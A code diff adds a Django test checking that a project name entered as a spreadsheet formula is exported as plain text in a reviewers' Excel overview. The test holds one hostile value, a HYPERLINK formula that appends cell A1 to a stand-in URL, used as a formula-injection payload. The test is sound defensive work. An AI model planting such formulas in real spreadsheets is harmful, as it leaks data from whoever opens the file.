@@ -134,3 +134,25 @@ class RegionAdminTests(WebTestCase):
         )
         boss.refresh_from_db()
         self.assertFalse(boss.check_password("Xin-mi-ma-2026-abc"))
+
+
+class OverviewExportInjectionTests(WebTestCase):
+    def test_a_project_name_typed_as_a_formula_stays_text_in_the_bureaus_excel(self) -> None:
+        import openpyxl
+
+        rnd = Round.objects.create(
+            region=self.region,
+            year=2021,
+            kind="project",
+            title="2021年度项目支出绩效自评",
+            deadline=date.today() + timedelta(days=10),
+        )
+        hostile = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'
+        s = Submission.start(by=self.head, round=rnd, project=hostile)
+        s.transition("submit", by=self.head)
+        self.client.force_login(self.reviewer)
+        r = self.client.get(reverse("overview_export", args=[rnd.pk]))
+        ws = openpyxl.load_workbook(io.BytesIO(r.content)).active
+        cells = [c for row in ws.iter_rows() for c in row if c.value == hostile]
+        self.assertEqual(len(cells), 1)
+        self.assertEqual(cells[0].data_type, "s")  # text, not a formula Excel would run
